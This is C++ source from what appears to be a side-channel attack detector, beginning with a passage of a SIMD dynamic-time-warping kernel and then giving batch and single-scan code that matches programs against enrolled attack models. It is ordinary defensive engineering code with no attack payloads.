      for (std::size_t j = j_lo; j <= j_hi; ++j)
        cbuf[j] = cost(d - j - 1, j - 1);
    }

    // Pad the lane count to a full vector multiple and let the step write
    // ghost lanes past j_hi. Exact-length calls leave a varying mix of
    // vector and scalar tail stores that the next diagonal's overlapping
    // vector loads cannot forward from — measured at ~4x the cost of this
    // whole loop body on short diagonals. Ghost lanes read only scratch
    // the kernel owns (zero-filled on growth, finite or +inf afterwards;
    // their cost lanes are zeroed here), and nothing ever reads a lane
    // past j_hi + 1, where the sentinel store below overwrites whatever
    // the ghost lanes left.
    const std::size_t plen = (len + simd::kLanePad - 1) & ~(simd::kLanePad - 1);
    for (std::size_t j = j_hi + 1; j < j_lo + plen; ++j) cbuf[j] = 0.0;

    // Lane j: dp[d-j][j] = min(dp[d-j-1][j-1], dp[d-j-1][j],
    //                          dp[d-j][j-1]) + cost.
    step(d2 + (j_lo - 1), s2 + (j_lo - 1),  // diagonal predecessor
         d1 + j_lo, s1 + j_lo,              // insertion (row above)
         d1 + (j_lo - 1), s1 + (j_lo - 1),  // deletion  (column left)
         cbuf + j_lo, d0 + j_lo, s0 + j_lo, plen);

    // +inf sentinels so diagonals d+1/d+2 read "out of band" correctly.
    // Written after the step: the j_hi + 1 slot doubles as the first ghost
    // lane when len < plen.
    d0[j_lo - 1] = kInf;
    s0[j_lo - 1] = 0.0;
    d0[j_hi + 1] = kInf;
    s0[j_hi + 1] = 0.0;

    if (may_abandon) {
      double* rmin = ws.row_min.data();
      for (std::size_t j = j_lo; j <= j_hi; ++j)
        rmin[d - j] = std::min(rmin[d - j], d0[j]);
      // Row r is complete once its last in-band cell, column
      // min(m, r + w), has been produced — i.e. on this diagonal when
      // d == r + min(m, r + w). Strictly increasing in r, so at most one
      // row completes per diagonal; test rows in scalar order.
      while (next_complete_row <= n &&
             next_complete_row + std::min(m, next_complete_row + w) == d) {
        if (rmin[next_complete_row] > abandon_above) {
          result.distance = rmin[next_complete_row];
          result.path_length = 0;
          result.abandoned = true;
          c_abandoned.add();
          return result;
        }
        ++next_complete_row;
      }
    }

    if (d == n + m) {
      result.distance = d0[m];
      result.path_length = static_cast<std::size_t>(s0[m]);
      return result;
    }

    double* t = d2;
    d2 = d1;
    d1 = d0;
    d0 = t;
    t = s2;
    s2 = s1;
    s1 = s0;
    s0 = t;
  }
  return result;  // unreachable: n, m >= 1 means the loop body returns
}

/// Kernel dispatch for the scan paths: honors DtwConfig::kernel and the
/// SCAG_SIMD environment escape hatch. Every production DP invocation
/// (cst_bbs_distance, the compiled kernel, bounded_dp) funnels through
/// here; the scalar dtw() template stays the reference oracle.
template <class CostFn>
DtwResult dtw_run(
    std::size_t n, std::size_t m, CostFn&& cost, const DtwConfig& config = {},
    double abandon_above = std::numeric_limits<double>::infinity()) {
  if (config.kernel == DtwKernel::kWavefront && simd::wavefront_enabled())
    return dtw_wavefront(n, m, static_cast<CostFn&&>(cost), config,
                         abandon_above);
  return dtw(n, m, static_cast<CostFn&&>(cost), config, abandon_above);
}

}  // namespace scag::core
