#include "core/cst.h"

namespace scag::core {

Cst measure_cst(const std::vector<AccessRecord>& accesses,
                const CstConfig& config) {
  cache::Cache sim(config.cache);
  sim.fill_all(cache::Owner::kOther);

  Cst cst;
  cst.before.ao = sim.occupancy(cache::Owner::kAttacker);
  cst.before.io = sim.total_occupancy() - cst.before.ao;

  for (const AccessRecord& rec : accesses) {
    switch (rec.op) {
      case CacheOp::kLoad:
        sim.access(rec.line_addr, cache::AccessType::kLoad,
                   cache::Owner::kAttacker);
        break;
      case CacheOp::kStore:
        sim.access(rec.line_addr, cache::AccessType::kStore,
                   cache::Owner::kAttacker);
        break;
      case CacheOp::kFlush:
        sim.flush(rec.line_addr);
        break;
    }
  }

  cst.after.ao = sim.occupancy(cache::Owner::kAttacker);
  cst.after.io = sim.total_occupancy() - cst.after.ao;
  return cst;
}

}  // namespace scag::core
