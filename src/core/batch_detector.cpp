#include "core/batch_detector.h"

#include <algorithm>
#include <utility>

#include "support/events.h"
#include "support/failpoint.h"
#include "support/metrics.h"
#include "support/trace.h"

namespace scag::core {

namespace {

/// Registry mirrors of the per-engine BatchStats counters, so a fleet of
/// BatchDetectors reports through one process-wide substrate.
struct BatchCounters {
  support::Counter& pairs;
  support::Counter& exact;
  support::Counter& kim_skipped;
  support::Counter& lb_skipped;
  support::Counter& early_abandoned;

  static BatchCounters& global() {
    support::Registry& r = support::Registry::global();
    static BatchCounters c{r.counter("batch.pairs"), r.counter("batch.exact"),
                           r.counter("batch.kim_skipped"),
                           r.counter("batch.lb_skipped"),
                           r.counter("batch.early_abandoned")};
    return c;
  }
};

}  // namespace

BatchDetector::BatchDetector(const Detector& detector, BatchConfig config)
    : detector_(detector), config_(config), pool_(config.threads) {}

BatchStats BatchDetector::stats() const {
  BatchStats s;
  s.pairs = pairs_.load(std::memory_order_relaxed);
  s.exact = exact_.load(std::memory_order_relaxed);
  s.kim_skipped = kim_skipped_.load(std::memory_order_relaxed);
  s.lb_skipped = lb_skipped_.load(std::memory_order_relaxed);
  s.early_abandoned = early_abandoned_.load(std::memory_order_relaxed);
  return s;
}

void BatchDetector::reset_stats() const {
  pairs_.store(0, std::memory_order_relaxed);
  exact_.store(0, std::memory_order_relaxed);
  kim_skipped_.store(0, std::memory_order_relaxed);
  lb_skipped_.store(0, std::memory_order_relaxed);
  early_abandoned_.store(0, std::memory_order_relaxed);
}

namespace {

/// Fallback counter shared by the batch scan paths: how many targets
/// degraded from the compiled kernels to the string kernels.
support::Counter& fallback_counter() {
  static support::Counter& c =
      support::Registry::global().counter("batch.compiled_fallback");
  return c;
}

}  // namespace

Detection BatchDetector::scan_one_pruned(const CstBbs& target,
                                         std::uint64_t deadline_ns) const {
  static support::Histogram& h_latency =
      support::Registry::global().histogram("batch.target_latency_ns");
  support::ScopedTimer timer(h_latency);
  support::events::ScanScope scan_scope(target.size());
  const std::size_t m = detector_.repository_size();
  DtwConfig dtw = detector_.scan_dtw_config();
  dtw.deadline_ns = deadline_ns;
  bool compiled = detector_.use_compiled() && m > 0;
  const CompiledRepository& crepo = detector_.compiled_repository();
  CompiledTarget ctarget;
  ElementDistanceMemo memo;
  ElementDistanceMemo::Stats memo_stats;
  if (compiled) {
    try {
      ctarget = crepo.compile_target(target);
      memo = ElementDistanceMemo(ctarget.unique_elements,
                                 crepo.unique_elements());
    } catch (const support::fp::FailpointError&) {
      fallback_counter().add();
      compiled = false;  // degrade to the bit-identical string kernels
    }
  }
  // The string kernels need the text-form models; on a store-backed
  // detector repository() materializes them, so touch it only on the
  // degradation path and keep the compiled path zero-copy.
  const std::vector<AttackModel>* repo =
      compiled ? nullptr : &detector_.repository();
  std::vector<ModelScore> scores;
  scores.reserve(m);
  // The cutoff ratchets up with the best exact score seen so far. Models
  // are visited in enrollment order by exactly one thread, so the pruning
  // decisions are deterministic and independent of scheduling.
  double best = 0.0;
  std::uint64_t exact = 0, lb = 0, ea = 0;
  for (std::size_t j = 0; j < m; ++j) {
    if (deadline_ns != 0 && support::monotonic_ns() >= deadline_ns)
      throw ScanTimeoutError();
    const double cutoff = std::max(best, detector_.threshold());
    const BoundedScore bs =
        compiled ? compiled_bounded_similarity(ctarget, crepo, j, memo, cutoff,
                                               dtw, &memo_stats)
                 : bounded_similarity(target, (*repo)[j].sequence, cutoff, dtw);
    switch (bs.pruned) {
      case PruneKind::kNone:
        ++exact;
        best = std::max(best, bs.score);
        break;
      case PruneKind::kLowerBound: ++lb; break;
      case PruneKind::kEarlyAbandon: ++ea; break;
    }
    ModelScore s;
    s.model_name = detector_.model_name(j);
    s.family = detector_.model_family(j);
    s.score = bs.score;
    s.pruned = bs.pruned != PruneKind::kNone;
    scores.push_back(std::move(s));
  }
  if (compiled) flush_memo_stats(memo_stats);
  exact_.fetch_add(exact, std::memory_order_relaxed);
  lb_skipped_.fetch_add(lb, std::memory_order_relaxed);
  early_abandoned_.fetch_add(ea, std::memory_order_relaxed);
  BatchCounters& bc = BatchCounters::global();
  bc.exact.add(exact);
  bc.lb_skipped.add(lb);
  bc.early_abandoned.add(ea);
  // Per-scan stage attribution for the journal, stage bytes shared with
  // CascadeStage (the flat pruned path has no Kim stage: its single
  // lower bound is the envelope bound).
  if (support::events::enabled()) {
    using support::events::emit_prune_stage;
    if (exact > 0)
      emit_prune_stage(static_cast<std::uint8_t>(CascadeStage::kExact), exact,
                       m);
    if (lb > 0)
      emit_prune_stage(static_cast<std::uint8_t>(CascadeStage::kEnvelopeBound),
                       lb, m);
    if (ea > 0)
      emit_prune_stage(static_cast<std::uint8_t>(CascadeStage::kEarlyAbandon),
                       ea, m);
  }
  return Detector::finalize(std::move(scores), detector_.threshold());
}

Detection BatchDetector::scan_one_indexed(const CstBbs& target,
                                          std::uint64_t deadline_ns) const {
  static support::Histogram& h_latency =
      support::Registry::global().histogram("batch.target_latency_ns");
  support::ScopedTimer timer(h_latency);
  support::events::ScanScope scan_scope(target.size());
  const std::size_t m = detector_.repository_size();
  DtwConfig dtw = detector_.scan_dtw_config();
  dtw.deadline_ns = deadline_ns;
  bool compiled = detector_.use_compiled() && m > 0;
  const CompiledRepository& crepo = detector_.compiled_repository();
  const ScanIndex& index = detector_.scan_index();
  CompiledTarget ctarget;
  ElementDistanceMemo memo;
  ElementDistanceMemo::Stats memo_stats;
  if (compiled) {
    try {
      ctarget = crepo.compile_target(target);
      memo = ElementDistanceMemo(ctarget.unique_elements,
                                 crepo.unique_elements());
    } catch (const support::fp::FailpointError&) {
      fallback_counter().add();
      compiled = false;  // degrade to the bit-identical string kernels
    }
  }
  // The visit order and every cascade decision depend only on the
  // enrolled models and this target; one thread owns the whole row, so
  // indexed scans are deterministic at any thread count.
  std::vector<CascadeScore> cascade;
  CascadeStats cstats;
  if (compiled) {
    const std::vector<std::uint32_t> order =
        index.scan_order(ctarget.seq.features, ctarget.seq.size());
    cascade =
        cascade_scan(ctarget, crepo, order, memo, dtw, &cstats, &memo_stats);
    flush_memo_stats(memo_stats);
  } else {
    const SequenceFeatures tf =
        compute_sequence_features(target, dtw.distance);
    const std::vector<std::uint32_t> order =
        index.scan_order(tf, target.size());
    cascade =
        cascade_scan(target, detector_.repository(), order, tf, dtw, &cstats);
  }
  std::vector<ModelScore> scores;
  scores.reserve(m);
  for (std::size_t j = 0; j < m; ++j) {
    ModelScore s;
    s.model_name = detector_.model_name(j);
    s.family = detector_.model_family(j);
    s.score = cascade[j].score;
    s.pruned = cascade[j].stage != CascadeStage::kExact;
    scores.push_back(std::move(s));
  }
  exact_.fetch_add(cstats.exact, std::memory_order_relaxed);
  kim_skipped_.fetch_add(cstats.kim_pruned, std::memory_order_relaxed);
  lb_skipped_.fetch_add(cstats.envelope_pruned, std::memory_order_relaxed);
  early_abandoned_.fetch_add(cstats.early_abandoned,
                             std::memory_order_relaxed);
  BatchCounters& bc = BatchCounters::global();
  bc.exact.add(cstats.exact);
  bc.kim_skipped.add(cstats.kim_pruned);
  bc.lb_skipped.add(cstats.envelope_pruned);
  bc.early_abandoned.add(cstats.early_abandoned);
  return Detector::finalize(std::move(scores), detector_.threshold());
}

std::vector<Detection> BatchDetector::scan_all(
    const std::vector<CstBbs>& targets) const {
  const std::size_t n = targets.size();
  const std::size_t m = detector_.repository_size();
  std::vector<Detection> out(n);
  pairs_.fetch_add(static_cast<std::uint64_t>(n) * m,
                   std::memory_order_relaxed);
  BatchCounters::global().pairs.add(static_cast<std::uint64_t>(n) * m);
  static support::Histogram& h_latency =
      support::Registry::global().histogram("batch.scan_latency_ns");
  support::TraceScope span("batch.scan_all");
  support::ScopedTimer timer(h_latency);

  if (config_.index) {
    // One work unit per target row, like pruned mode: the cascade's
    // best-so-far cutoff is a per-row sequential ratchet.
    pool_.parallel_for(
        n, [&](std::size_t t) { out[t] = scan_one_indexed(targets[t]); });
    return out;
  }

  if (config_.prune) {
    // One work unit per target row: the best-so-far cutoff is a per-row
    // sequential ratchet, so a row must not be split across lanes.
    pool_.parallel_for(
        n, [&](std::size_t t) { out[t] = scan_one_pruned(targets[t]); });
    return out;
  }

  // Equivalence mode: work-steal over the flattened N x M score matrix.
  // Each (target, model) score is written to a slot determined only by its
  // indices; the per-target reduction below is serial and shared with the
  // serial Detector, so the result is bit-identical at any thread count.
  std::vector<ModelScore> matrix(n * m);
  const DtwConfig dtw = detector_.scan_dtw_config();
  if (detector_.use_compiled() && m > 0) {
    // Compile every target once up front (parallel across targets), then
    // share each target's memo across all of its matrix cells. The memo's
    // relaxed-atomic cells make that safe: element distances are pure, so
    // racing fills store identical bits.
    const CompiledRepository& crepo = detector_.compiled_repository();
    std::vector<CompiledTarget> ctargets(n);
    std::vector<ElementDistanceMemo> memos(n);
    // A target whose compilation fails degrades to the string kernels
    // (bit-identical scores) instead of aborting the whole batch.
    std::vector<char> use_string(n, 0);
    pool_.parallel_for(n, [&](std::size_t t) {
      try {
        ctargets[t] = crepo.compile_target(targets[t]);
        memos[t] = ElementDistanceMemo(ctargets[t].unique_elements,
                                       crepo.unique_elements());
      } catch (const support::fp::FailpointError&) {
        fallback_counter().add();
        use_string[t] = 1;
      }
    });
    // Materialize the text models up front only if some target degraded:
    // on a store-backed detector repository() is a lazy unpack, and paying
    // it inside the parallel region would serialize the first wave of
    // cells behind the call_once.
    const std::vector<AttackModel>* repo = nullptr;
    if (std::find(use_string.begin(), use_string.end(), 1) !=
        use_string.end())
      repo = &detector_.repository();
    pool_.parallel_for(
        n * m,
        [&](std::size_t k) {
          const std::size_t t = k / m;
          const std::size_t j = k % m;
          ModelScore& s = matrix[k];
          s.model_name = detector_.model_name(j);
          s.family = detector_.model_family(j);
          if (use_string[t]) {
            s.score = similarity(targets[t], (*repo)[j].sequence, dtw);
            return;
          }
          ElementDistanceMemo::Stats stats;
          s.score =
              compiled_similarity(ctargets[t], crepo, j, memos[t], dtw, &stats);
          flush_memo_stats(stats);
        },
        config_.grain);
  } else {
    const std::vector<AttackModel>& repo = detector_.repository();
    pool_.parallel_for(
        n * m,
        [&](std::size_t k) {
          const std::size_t t = k / m;
          const std::size_t j = k % m;
          ModelScore& s = matrix[k];
          s.model_name = repo[j].name;
          s.family = repo[j].family;
          s.score = similarity(targets[t], repo[j].sequence, dtw);
        },
        config_.grain);
  }
  exact_.fetch_add(static_cast<std::uint64_t>(n) * m,
                   std::memory_order_relaxed);
  BatchCounters::global().exact.add(static_cast<std::uint64_t>(n) * m);

  for (std::size_t t = 0; t < n; ++t) {
    std::vector<ModelScore> row(
        std::make_move_iterator(matrix.begin() + t * m),
        std::make_move_iterator(matrix.begin() + (t + 1) * m));
    out[t] = Detector::finalize(std::move(row), detector_.threshold());
  }
  return out;
}

std::vector<Detection> BatchDetector::scan_modeled(
    std::size_t count,
    const std::function<CstBbs(std::size_t)>& make_target) const {
  std::vector<CstBbs> targets(count);
  pool_.parallel_for(count,
                     [&](std::size_t i) { targets[i] = make_target(i); });
  return scan_all(targets);
}

std::vector<Detection> BatchDetector::scan_programs(
    const std::vector<isa::Program>& targets) const {
  const ModelBuilder& builder = detector_.builder();
  return scan_modeled(targets.size(), [&](std::size_t i) {
    // An instruction-less program has no behavior to model (the pipeline
    // rejects it); treat it as an empty CST-BBS so it scores ~0 / benign
    // instead of aborting the whole batch.
    if (targets[i].size() == 0) return CstBbs{};
    return builder.build(targets[i]).sequence;
  });
}

Detection BatchDetector::scan(const CstBbs& target) const {
  return scan_all({target}).front();
}

Detection BatchDetector::scan_one_exact(const CstBbs& target,
                                        std::uint64_t deadline_ns) const {
  support::events::ScanScope scan_scope(target.size());
  const std::size_t m = detector_.repository_size();
  DtwConfig dtw = detector_.scan_dtw_config();
  dtw.deadline_ns = deadline_ns;
  bool compiled = detector_.use_compiled() && m > 0;
  const CompiledRepository& crepo = detector_.compiled_repository();
  CompiledTarget ctarget;
  ElementDistanceMemo memo;
  ElementDistanceMemo::Stats memo_stats;
  if (compiled) {
    try {
      ctarget = crepo.compile_target(target);
      memo = ElementDistanceMemo(ctarget.unique_elements,
                                 crepo.unique_elements());
    } catch (const support::fp::FailpointError&) {
      fallback_counter().add();
      compiled = false;
    }
  }
  const std::vector<AttackModel>* repo =
      compiled ? nullptr : &detector_.repository();
  std::vector<ModelScore> scores;
  scores.reserve(m);
  for (std::size_t j = 0; j < m; ++j) {
    if (deadline_ns != 0 && support::monotonic_ns() >= deadline_ns)
      throw ScanTimeoutError();
    ModelScore s;
    s.model_name = detector_.model_name(j);
    s.family = detector_.model_family(j);
    s.score = compiled
                  ? compiled_similarity(ctarget, crepo, j, memo, dtw,
                                        &memo_stats)
                  : similarity(target, (*repo)[j].sequence, dtw);
    scores.push_back(std::move(s));
  }
  if (compiled) flush_memo_stats(memo_stats);
  exact_.fetch_add(m, std::memory_order_relaxed);
  BatchCounters::global().exact.add(m);
  if (m > 0)
    support::events::emit_prune_stage(
        static_cast<std::uint8_t>(CascadeStage::kExact), m, m);
  return Detector::finalize(std::move(scores), detector_.threshold());
}

ScanOutcome BatchDetector::scan_outcome_one(const CstBbs& target) const {
  static support::Counter& c_errors =
      support::Registry::global().counter("batch.outcome_errors");
  static support::Counter& c_timeouts =
      support::Registry::global().counter("batch.outcome_timeouts");
  ScanOutcome o;
  o.stage = "scan";
  const std::uint64_t deadline_ns =
      config_.scan.deadline_ms == 0
          ? 0
          : support::monotonic_ns() +
                static_cast<std::uint64_t>(config_.scan.deadline_ms) *
                    1'000'000ull;
  try {
    if (support::fp::hit("batch.scan_target"))
      throw support::fp::FailpointError("batch.scan_target");
    o.detection = config_.index ? scan_one_indexed(target, deadline_ns)
                 : config_.prune ? scan_one_pruned(target, deadline_ns)
                                 : scan_one_exact(target, deadline_ns);
  } catch (const ScanTimeoutError&) {
    o.status = ScanStatus::kTimedOut;
    o.error = "scan deadline of " + std::to_string(config_.scan.deadline_ms) +
              "ms exceeded";
    c_timeouts.add();
    // The trip event doubles as the flight-recorder dump trigger: the
    // per-thread tails still hold what every worker was doing when this
    // scan ran out of budget.
    support::events::emit_deadline_trip(
        static_cast<std::uint64_t>(config_.scan.deadline_ms) * 1'000'000ull);
  } catch (const support::fp::FailpointError& e) {
    o.status = ScanStatus::kError;
    o.error = e.what();
    o.failpoint = e.name();
    c_errors.add();
  } catch (const std::exception& e) {
    o.status = ScanStatus::kError;
    o.error = e.what();
    c_errors.add();
  }
  return o;
}

std::vector<ScanOutcome> BatchDetector::scan_all_outcomes(
    const std::vector<CstBbs>& targets) const {
  const std::size_t n = targets.size();
  std::vector<ScanOutcome> out(n);
  pairs_.fetch_add(
      static_cast<std::uint64_t>(n) * detector_.repository_size(),
      std::memory_order_relaxed);
  BatchCounters::global().pairs.add(
      static_cast<std::uint64_t>(n) * detector_.repository_size());
  support::TraceScope span("batch.scan_all_outcomes");
  // One work unit per target: errors, timeouts, and pruning cutoffs are
  // all per-target state, so a failing slot never perturbs its neighbors.
  pool_.parallel_for(n,
                     [&](std::size_t t) { out[t] = scan_outcome_one(targets[t]); });
  return out;
}

std::vector<ScanOutcome> BatchDetector::scan_programs_outcomes(
    const std::vector<isa::Program>& targets) const {
  const std::size_t n = targets.size();
  const ModelBuilder& builder = detector_.builder();
  std::vector<ScanOutcome> out(n);
  std::vector<CstBbs> sequences(n);
  std::vector<char> modeled(n, 0);
  support::TraceScope span("batch.scan_programs_outcomes");
  pool_.parallel_for(n, [&](std::size_t i) {
    try {
      if (support::fp::hit("batch.model_target"))
        throw support::fp::FailpointError("batch.model_target");
      // Same convention as scan_programs: an instruction-less program
      // models as an empty CST-BBS and scans benign.
      if (targets[i].size() != 0)
        sequences[i] = builder.build(targets[i]).sequence;
      modeled[i] = 1;
    } catch (const support::fp::FailpointError& e) {
      out[i].status = ScanStatus::kError;
      out[i].stage = "model";
      out[i].error = e.what();
      out[i].failpoint = e.name();
    } catch (const std::exception& e) {
      out[i].status = ScanStatus::kError;
      out[i].stage = "model";
      out[i].error = e.what();
    }
  });
  pool_.parallel_for(n, [&](std::size_t i) {
    if (modeled[i]) out[i] = scan_outcome_one(sequences[i]);
  });
  return out;
}

}  // namespace scag::core
