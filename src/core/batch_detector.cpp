#include "core/batch_detector.h"

#include <algorithm>
#include <utility>

#include "support/metrics.h"
#include "support/trace.h"

namespace scag::core {

namespace {

/// Registry mirrors of the per-engine BatchStats counters, so a fleet of
/// BatchDetectors reports through one process-wide substrate.
struct BatchCounters {
  support::Counter& pairs;
  support::Counter& exact;
  support::Counter& lb_skipped;
  support::Counter& early_abandoned;

  static BatchCounters& global() {
    support::Registry& r = support::Registry::global();
    static BatchCounters c{r.counter("batch.pairs"), r.counter("batch.exact"),
                           r.counter("batch.lb_skipped"),
                           r.counter("batch.early_abandoned")};
    return c;
  }
};

}  // namespace

BatchDetector::BatchDetector(const Detector& detector, BatchConfig config)
    : detector_(detector), config_(config), pool_(config.threads) {}

BatchStats BatchDetector::stats() const {
  BatchStats s;
  s.pairs = pairs_.load(std::memory_order_relaxed);
  s.exact = exact_.load(std::memory_order_relaxed);
  s.lb_skipped = lb_skipped_.load(std::memory_order_relaxed);
  s.early_abandoned = early_abandoned_.load(std::memory_order_relaxed);
  return s;
}

void BatchDetector::reset_stats() const {
  pairs_.store(0, std::memory_order_relaxed);
  exact_.store(0, std::memory_order_relaxed);
  lb_skipped_.store(0, std::memory_order_relaxed);
  early_abandoned_.store(0, std::memory_order_relaxed);
}

Detection BatchDetector::scan_one_pruned(const CstBbs& target) const {
  static support::Histogram& h_latency =
      support::Registry::global().histogram("batch.target_latency_ns");
  support::ScopedTimer timer(h_latency);
  const std::vector<AttackModel>& repo = detector_.repository();
  const DtwConfig& dtw = detector_.dtw_config();
  const bool compiled = detector_.use_compiled() && !repo.empty();
  const CompiledRepository& crepo = detector_.compiled_repository();
  CompiledTarget ctarget;
  ElementDistanceMemo memo;
  ElementDistanceMemo::Stats memo_stats;
  if (compiled) {
    ctarget = crepo.compile_target(target);
    memo = ElementDistanceMemo(ctarget.unique_elements,
                               crepo.unique_elements());
  }
  std::vector<ModelScore> scores;
  scores.reserve(repo.size());
  // The cutoff ratchets up with the best exact score seen so far. Models
  // are visited in enrollment order by exactly one thread, so the pruning
  // decisions are deterministic and independent of scheduling.
  double best = 0.0;
  std::uint64_t exact = 0, lb = 0, ea = 0;
  for (std::size_t j = 0; j < repo.size(); ++j) {
    const AttackModel& model = repo[j];
    const double cutoff = std::max(best, detector_.threshold());
    const BoundedScore bs =
        compiled ? compiled_bounded_similarity(ctarget, crepo, j, memo, cutoff,
                                               dtw, &memo_stats)
                 : bounded_similarity(target, model.sequence, cutoff, dtw);
    switch (bs.pruned) {
      case PruneKind::kNone:
        ++exact;
        best = std::max(best, bs.score);
        break;
      case PruneKind::kLowerBound: ++lb; break;
      case PruneKind::kEarlyAbandon: ++ea; break;
    }
    ModelScore s;
    s.model_name = model.name;
    s.family = model.family;
    s.score = bs.score;
    s.pruned = bs.pruned != PruneKind::kNone;
    scores.push_back(std::move(s));
  }
  if (compiled) flush_memo_stats(memo_stats);
  exact_.fetch_add(exact, std::memory_order_relaxed);
  lb_skipped_.fetch_add(lb, std::memory_order_relaxed);
  early_abandoned_.fetch_add(ea, std::memory_order_relaxed);
  BatchCounters& bc = BatchCounters::global();
  bc.exact.add(exact);
  bc.lb_skipped.add(lb);
  bc.early_abandoned.add(ea);
  return Detector::finalize(std::move(scores), detector_.threshold());
}

std::vector<Detection> BatchDetector::scan_all(
    const std::vector<CstBbs>& targets) const {
  const std::vector<AttackModel>& repo = detector_.repository();
  const std::size_t n = targets.size();
  const std::size_t m = repo.size();
  std::vector<Detection> out(n);
  pairs_.fetch_add(static_cast<std::uint64_t>(n) * m,
                   std::memory_order_relaxed);
  BatchCounters::global().pairs.add(static_cast<std::uint64_t>(n) * m);
  static support::Histogram& h_latency =
      support::Registry::global().histogram("batch.scan_latency_ns");
  support::TraceScope span("batch.scan_all");
  support::ScopedTimer timer(h_latency);

  if (config_.prune) {
    // One work unit per target row: the best-so-far cutoff is a per-row
    // sequential ratchet, so a row must not be split across lanes.
    pool_.parallel_for(
        n, [&](std::size_t t) { out[t] = scan_one_pruned(targets[t]); });
    return out;
  }

  // Equivalence mode: work-steal over the flattened N x M score matrix.
  // Each (target, model) score is written to a slot determined only by its
  // indices; the per-target reduction below is serial and shared with the
  // serial Detector, so the result is bit-identical at any thread count.
  std::vector<ModelScore> matrix(n * m);
  const DtwConfig& dtw = detector_.dtw_config();
  if (detector_.use_compiled() && m > 0) {
    // Compile every target once up front (parallel across targets), then
    // share each target's memo across all of its matrix cells. The memo's
    // relaxed-atomic cells make that safe: element distances are pure, so
    // racing fills store identical bits.
    const CompiledRepository& crepo = detector_.compiled_repository();
    std::vector<CompiledTarget> ctargets(n);
    std::vector<ElementDistanceMemo> memos(n);
    pool_.parallel_for(n, [&](std::size_t t) {
      ctargets[t] = crepo.compile_target(targets[t]);
      memos[t] = ElementDistanceMemo(ctargets[t].unique_elements,
                                     crepo.unique_elements());
    });
    pool_.parallel_for(
        n * m,
        [&](std::size_t k) {
          const std::size_t t = k / m;
          const std::size_t j = k % m;
          ModelScore& s = matrix[k];
          s.model_name = repo[j].name;
          s.family = repo[j].family;
          ElementDistanceMemo::Stats stats;
          s.score =
              compiled_similarity(ctargets[t], crepo, j, memos[t], dtw, &stats);
          flush_memo_stats(stats);
        },
        config_.grain);
  } else {
    pool_.parallel_for(
        n * m,
        [&](std::size_t k) {
          const std::size_t t = k / m;
          const std::size_t j = k % m;
          ModelScore& s = matrix[k];
          s.model_name = repo[j].name;
          s.family = repo[j].family;
          s.score = similarity(targets[t], repo[j].sequence, dtw);
        },
        config_.grain);
  }
  exact_.fetch_add(static_cast<std::uint64_t>(n) * m,
                   std::memory_order_relaxed);
  BatchCounters::global().exact.add(static_cast<std::uint64_t>(n) * m);

  for (std::size_t t = 0; t < n; ++t) {
    std::vector<ModelScore> row(
        std::make_move_iterator(matrix.begin() + t * m),
        std::make_move_iterator(matrix.begin() + (t + 1) * m));
    out[t] = Detector::finalize(std::move(row), detector_.threshold());
  }
  return out;
}

std::vector<Detection> BatchDetector::scan_modeled(
    std::size_t count,
    const std::function<CstBbs(std::size_t)>& make_target) const {
  std::vector<CstBbs> targets(count);
  pool_.parallel_for(count,
                     [&](std::size_t i) { targets[i] = make_target(i); });
  return scan_all(targets);
}

std::vector<Detection> BatchDetector::scan_programs(
    const std::vector<isa::Program>& targets) const {
  const ModelBuilder& builder = detector_.builder();
  return scan_modeled(targets.size(), [&](std::size_t i) {
    // An instruction-less program has no behavior to model (the pipeline
    // rejects it); treat it as an empty CST-BBS so it scores ~0 / benign
    // instead of aborting the whole batch.
    if (targets[i].size() == 0) return CstBbs{};
    return builder.build(targets[i]).sequence;
  });
}

Detection BatchDetector::scan(const CstBbs& target) const {
  return scan_all({target}).front();
}

}  // namespace scag::core
