#include "core/detector.h"

#include <algorithm>
#include <stdexcept>

#include "core/store.h"
#include "support/events.h"
#include "support/failpoint.h"
#include "support/metrics.h"
#include "support/trace.h"

namespace scag::core {

void Detector::enroll(const isa::Program& poc, Family family) {
  if (family == Family::kBenign)
    throw std::invalid_argument("Detector::enroll: enroll attack PoCs only");
  enroll(builder_.build(poc, family));
}

void Detector::enroll(AttackModel model) {
  if (store_ != nullptr)
    throw std::logic_error(
        "Detector::enroll: store-backed repository is frozen (re-pack the "
        "store to change it)");
  if (model.family == Family::kBenign)
    throw std::invalid_argument("Detector::enroll: enroll attack models only");
  repository_.push_back(std::move(model));
  compiled_.add(repository_.back().sequence);
  // The compiled form just computed this model's envelope features; the
  // triage index summarizes them further, so enrollment pays no extra
  // sequence sweep.
  const AttackModel& m = repository_.back();
  index_.add(compiled_.model(repository_.size() - 1).features,
             m.sequence.size(), m.family);
}

void Detector::attach_store(std::shared_ptr<const ModelStore> store) {
  if (store == nullptr)
    throw std::invalid_argument("Detector::attach_store: null store");
  if (!repository_.empty() || store_ != nullptr)
    throw std::logic_error(
        "Detector::attach_store: attach to an empty detector");
  // compiled_view() rejects an alphabet mismatch before any state changes.
  compiled_ = CompiledRepository(store->compiled_view(dtw_.distance));
  index_ = ScanIndex();
  index_.load(store->triage_vectors(), store->model_families());
  store_ = std::move(store);
  materialize_once_ = std::make_shared<std::once_flag>();
}

std::size_t Detector::repository_size() const {
  return store_ != nullptr ? store_->num_models() : repository_.size();
}

std::string_view Detector::model_name(std::size_t j) const {
  return store_ != nullptr ? store_->model_name(j)
                           : std::string_view(repository_[j].name);
}

Family Detector::model_family(std::size_t j) const {
  return store_ != nullptr ? store_->model_family(j) : repository_[j].family;
}

const std::vector<AttackModel>& Detector::repository() const {
  if (store_ != nullptr) {
    std::call_once(*materialize_once_,
                   [&] { repository_ = store_->unpack(); });
  }
  return repository_;
}

Detection Detector::scan(const isa::Program& target) const {
  const AttackModel m = builder_.build(target);
  return scan(m.sequence);
}

Detection Detector::scan(const CstBbs& target_sequence) const {
  static support::Counter& c_requests =
      support::Registry::global().counter("scan.requests");
  static support::Counter& c_pairs =
      support::Registry::global().counter("scan.pairs");
  static support::Histogram& h_latency =
      support::Registry::global().histogram("scan.latency_ns");
  support::TraceScope span("scan.dtw");
  support::ScopedTimer timer(h_latency);
  // Journal correlation: tags every event emitted below (cascade stages,
  // cutoff improvements, the verdict) with this scan's id. Passive — a
  // disabled journal makes this a single relaxed load.
  support::events::ScanScope scan_scope(target_sequence.size());
  if (support::fp::hit("detector.scan"))
    throw support::fp::FailpointError("detector.scan");
  c_requests.add();
  const std::size_t repo_size = repository_size();
  c_pairs.add(repo_size);

  // Target compilation is the one fast-path stage that can fail on its
  // own (failpoint-injected today, defensive tomorrow); the string kernels
  // are bit-identical, so degrade to them rather than failing the scan
  // (on a store-backed detector that first materializes the text models).
